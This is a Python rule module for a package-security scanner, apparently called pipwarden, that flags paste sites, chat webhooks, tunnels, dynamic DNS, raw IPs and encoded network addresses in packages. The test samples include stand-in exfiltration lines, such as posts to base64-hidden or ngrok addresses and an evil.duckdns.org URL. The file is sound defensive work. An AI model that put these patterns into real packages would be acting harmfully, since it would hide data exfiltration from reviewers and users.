"""suspicious-endpoint.*: addresses that malware favours."""

from __future__ import annotations

from collections.abc import Callable

from pipwarden.findings import Severity
from pipwarden.rules import ON_LOAD, Where
from pipwarden.scan.facts import Endpoint, Fact, Observation
from pipwarden.scan.rules._base import CRITICAL, HIGH, LOW, MEDIUM, negative, positive, rule
from pipwarden.scan.rules._samples import URL

_FIX = "Check what the package sends to or fetches from this address."
#: Anywhere in a file that runs at install time (whole_file): contacting a paste site, a
#: tunnel or a chat webhook while pip builds the package is what droppers do, and nothing
#: a build needs.
_IN_INSTALL_FILES = {Where.INSTALL: HIGH}

#: The facts every named-endpoint rule claims (in code, and in bytes the AST did not read).
_NAMED = (Fact.ENDPOINT_NAMED, Fact.ENDPOINT_IN_BYTES)


def _of_kind(kind: Endpoint) -> Callable[[Observation], bool]:
    def of_kind(o: Observation) -> bool:
        return o.endpoint is kind

    return of_kind


def _named_severity(o: Observation) -> Severity | None:
    """A paste site, chat webhook, tunnel or dynamic DNS host: `WITH_SECRET` with its secret
    token; high in bytes of a .py file that is valid neither as Python 3 nor as Python 2
    (`unparsed_file`), as if contacted: what the file does with the address cannot be read (a
    module that does not parse cannot be imported either: shipping one hides its code from
    review, and test or docs files stay capped at low); else as declared."""
    if o.fact in (Fact.ENDPOINT_WITH_TOKEN, Fact.BOT_TOKEN_BESIDE_ENDPOINT):
        return WITH_SECRET
    if o.fact is Fact.ENDPOINT_IN_BYTES and o.unparsed_file:
        return HIGH
    return None


def _hidden(o: Observation) -> Severity | None:
    """A downloaded address (from a dead drop, or not), as `hidden_severity`."""
    if o.fact in (Fact.DOWNLOADED_ADDRESS_CONTACTED, Fact.DEAD_DROP_ADDRESS_CONTACTED):
        return hidden_severity(dead_drop=o.fact is Fact.DEAD_DROP_ADDRESS_CONTACTED)
    return None


RULES = [
    rule(
        "suspicious-endpoint.paste-site",
        MEDIUM,
        "CWE-506",
        "Paste or file-drop site",
        "A paste site or anonymous file host (pastebin, transfer.sh, ...).",
        _FIX,
        severity_in=_IN_INSTALL_FILES,
        whole_file=True,
        samples=(
            positive("U = 'https://pastebin.com/raw/abc'\n"),
            negative(f"U = {URL!r}\n"),
        ),
        when=_NAMED,
        only_if=_of_kind(Endpoint.PASTE_SITE),
        severity_of=_named_severity,
    ),
    rule(
        "suspicious-endpoint.webhook",
        MEDIUM,
        "CWE-506",
        "Chat webhook or bot API",
        "A Discord/Slack webhook or Telegram bot URL: a common exfiltration channel.",
        _FIX,
        severity_in=_IN_INSTALL_FILES,
        whole_file=True,
        samples=(
            positive("U = 'https://discord.com/api/webhooks/1/abc'\n"),
            negative("U = 'https://discord.com/developers/docs'\n"),
        ),
        when=(*_NAMED, Fact.ENDPOINT_WITH_TOKEN, Fact.BOT_TOKEN_BESIDE_ENDPOINT),
        only_if=_of_kind(Endpoint.WEBHOOK),
        severity_of=_named_severity,
    ),
    rule(
        "suspicious-endpoint.tunnel",
        MEDIUM,
        "CWE-506",
        "Tunnel or request-capture service",
        "ngrok, trycloudflare, webhook.site, interactsh, pipedream and similar.",
        _FIX,
        severity_in=_IN_INSTALL_FILES,
        whole_file=True,
        samples=(
            positive("U = 'https://abc123.ngrok.io/collect'\n"),
            negative("U = 'https://docs.example.invalid/tunnels'\n"),
        ),
        when=_NAMED,
        only_if=_of_kind(Endpoint.TUNNEL),
        severity_of=_named_severity,
    ),
    rule(
        "suspicious-endpoint.dynamic-dns",
        MEDIUM,
        "CWE-506",
        "Dynamic DNS host",
        "duckdns, no-ip and similar dynamic DNS names.",
        _FIX,
        severity_in=_IN_INSTALL_FILES,
        whole_file=True,
        samples=(
            positive("U = 'http://evil.duckdns.org/x'\n"),
            negative("U = 'http://ducks.example.invalid/x'\n"),
        ),
        when=_NAMED,
        only_if=_of_kind(Endpoint.DYNAMIC_DNS),
        severity_of=_named_severity,
    ),
    rule(
        "suspicious-endpoint.raw-ip",
        LOW,
        "CWE-506",
        "URL with a public raw IP address",
        "Legitimate services are reached by name.",
        _FIX,
        samples=(
            positive("U = 'http://8.8.4.4/payload'\n"),
            negative("U = 'http://127.0.0.1:8000/ and http://10.0.0.1/'\n"),
        ),
        when=_NAMED,
        only_if=_of_kind(Endpoint.RAW_IP),
    ),
    rule(
        "suspicious-endpoint.contacted",
        HIGH,
        "CWE-506",
        "Suspicious endpoint is contacted",
        "An address of the kinds above reaches a network call.",
        _FIX,
        severity_in=_IN_INSTALL_FILES,
        whole_file=True,
        samples=(
            positive("import requests\ndef f():\n    requests.get('https://abc.ngrok.io/a')\n"),
            negative("def f():\n    print('https://abc.ngrok.io/a')\n"),
            # Through a local helper around urlopen(), when the module is imported.
            positive(
                "import urllib.request\n"
                "def post(url, data):\n    urllib.request.urlopen(url, data)\n"
                "def register():\n    post('http://192.0.2.7:3000/nodes', b'x')\n"
                "register()\n"
            ),
            negative(  # the same helper, called only when the user asks
                "import urllib.request\n"
                "def post(url, data):\n    urllib.request.urlopen(url, data)\n"
                "def register():\n    post('http://192.0.2.7:3000/nodes', b'x')\n"
            ),
        ),
        when=(Fact.PASTE_OR_CHAT_CONTACTED, Fact.COVERT_HOST_CONTACTED),
        severity_of=lambda o: contacted_severity(
            o.where or Where.RUNTIME, covert_host=o.fact is Fact.COVERT_HOST_CONTACTED
        ),
    ),
    rule(
        "suspicious-endpoint.hidden",
        HIGH,
        "CWE-506",
        "Network address hidden by encoding",
        "The URL or host a network call contacts is decoded at run time (base64, zlib, "
        "reversed, xor): the destination was hidden from review.",
        "Decode it (pipwarden shows the call) and check where data goes.",
        samples=(
            positive(
                "import base64, requests\n"
                "def f(data):\n    requests.post(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv'), data=data)\n"
            ),
            # The decoded address as the fallback of an environment variable.
            positive(
                "import os, requests\n"
                "def f(data):\n"
                "    url = os.environ.get('PKG_URL', ''.join(chr(ord(c) - 1) for c in 'iuuqt;00fybnqmf/jowbmje0'))\n"
                "    requests.post(url, data=data)\n"
            ),
            negative(
                "import requests\ndef f(data):\n    requests.post('https://api.example.invalid/v1', data=data)\n"
            ),
            # Through a helper that posts to the address it is given.
            positive(
                "import base64, requests\n"
                "def send(url, data):\n    requests.post(url, data=data)\n"
                "def f(data):\n    send(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv').decode(), data)\n"
            ),
            negative(
                "import base64, requests\n"
                "def send(url, data):\n    requests.post(url, data=data)\n"
                "def f(data):\n    send('https://example.invalid/', base64.b64decode(data))\n"
            ),
            negative(
                "import os, requests\n"
                "def f(data):\n"
                "    requests.post(os.environ.get('PKG_URL', 'https://api.example.invalid/v1'), data=data)\n"
            ),
        ),
        when=(
            Fact.HIDDEN_ADDRESS_CONTACTED,
            Fact.DOWNLOADED_ADDRESS_CONTACTED,
            Fact.DEAD_DROP_ADDRESS_CONTACTED,
        ),
        severity_of=_hidden,
    ),
]

#: webhook, for a chat webhook or bot token written out with its secret: the author's own
#: channel (libraries take a webhook from their user; stealers carry the one they report to).
WITH_SECRET = HIGH


def contacted_severity(where: Where, covert_host: bool) -> Severity:
    """contacted: high for tunnels, raw IPs and dynamic DNS (`covert_host`) or anything
    contacted on install, import or start-up; medium for a paste site or chat API contacted
    at run time (they have benign uses when a user asks: IPython's %pastebin)."""
    return HIGH if covert_host or where in ON_LOAD else MEDIUM


def hidden_severity(dead_drop: bool) -> Severity:
    """hidden: critical when the downloaded address came from a paste site or a chat channel
    (a dead drop for a C2 address), else high."""
    return CRITICAL if dead_drop else HIGH
